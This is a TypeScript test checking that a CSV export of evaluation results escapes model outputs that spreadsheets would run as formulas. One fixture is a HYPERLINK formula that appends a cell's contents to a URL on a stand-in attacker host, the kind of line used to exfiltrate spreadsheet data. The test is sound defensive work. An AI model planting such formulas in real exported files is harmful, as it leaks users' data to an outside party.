import assert from 'node:assert/strict';
import { test } from 'node:test';
import { resultsCsv } from './results-csv.ts';
import type { ItemResult } from './store.ts';

const item = (idx: number, output: string | null, error: string | null = null): ItemResult => ({
  runId: 'run_1',
  idx,
  ok: error === null,
  output,
  error,
  score: error === null ? 0.5 : 0,
  scores: { contains: { score: error === null ? 0.5 : 0, pass: false } },
  latencyMs: 12.34,
  costUsd: null,
  requestId: 'req_1',
  createdAt: 0,
});

test('model output that a spreadsheet would run as a formula is written as text', () => {
  const csv = resultsCsv(
    ['contains'],
    [
      item(0, '=HYPERLINK("https://evil.example/?"&A1,"click")'),
      item(1, '+1 555 0100'),
      item(2, '@SUM(A1:A9)'),
      item(3, null, '-upstream said no'),
      item(4, 'plain, with "quotes"\nand a newline'),
    ],
  );
  const lines = csv.split('\n');
  assert.equal(lines[0], 'idx,ok,score,contains,latency_ms,cost_usd,request_id,error,output');
  assert.equal(lines[1], `0,true,0.5,0.5,12.3,,req_1,,"'=HYPERLINK(""https://evil.example/?""&A1,""click"")"`);
  assert.ok(lines[2].endsWith(",'+1 555 0100"));
  assert.ok(lines[3].endsWith(",'@SUM(A1:A9)"));
  assert.ok(lines[4].includes(",'-upstream said no,"));
  // Ordinary text keeps its content; quoting is standard CSV.
  assert.equal(lines[5], '4,true,0.5,0.5,12.3,,req_1,,"plain, with ""quotes""');
  assert.equal(lines[6], 'and a newline"');
});
